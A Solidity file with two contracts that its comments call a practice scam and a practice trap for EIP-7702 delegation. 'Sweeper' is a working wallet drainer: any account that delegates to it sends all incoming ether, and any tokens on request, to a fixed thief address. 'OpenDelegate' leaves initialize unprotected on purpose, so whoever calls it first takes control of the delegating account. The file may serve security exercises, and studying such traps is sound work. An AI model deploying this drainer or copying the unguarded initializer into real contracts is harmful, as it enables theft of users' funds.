// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IToken} from "./Token.sol";

/// @notice A scam for practice: an account that delegates to it (EIP-7702) hands on all ether that it gets, and all tokens as soon as anybody asks.
contract Sweeper {
    address public immutable thief;

    event Swept(address indexed from, uint256 value);

    constructor(address thief_) {
        thief = thief_;
    }

    receive() external payable {
        _sweep();
    }

    fallback() external payable {
        _sweep();
    }

    function sweep(IToken[] calldata tokens) external payable {
        for (uint256 i = 0; i < tokens.length; i++) tokens[i].transfer(thief, tokens[i].balanceOf(address(this)));
        _sweep();
    }

    function _sweep() private {
        uint256 value = address(this).balance;
        (bool ok,) = thief.call{value: value}("");
        if (ok) emit Swept(address(this), value);
    }
}

/// @notice A trap for practice: a delegate (EIP-7702) that looks like any, but whose owner is whoever calls `initialize` first.
contract OpenDelegate {
    address public owner;

    event Initialized(address indexed owner);

    error AlreadyInitialized();
    error NotOwner();

    receive() external payable {}

    function initialize(address owner_) external {
        if (owner != address(0)) revert AlreadyInitialized();
        owner = owner_;
        emit Initialized(owner_);
    }

    function execute(address target, uint256 value, bytes calldata data) external payable returns (bytes memory) {
        if (msg.sender != owner && msg.sender != address(this)) revert NotOwner();
        (bool ok, bytes memory result) = target.call{value: value}(data);
        if (!ok) {
            assembly {
                revert(add(result, 32), mload(result))
            }
        }
        return result;
    }
}
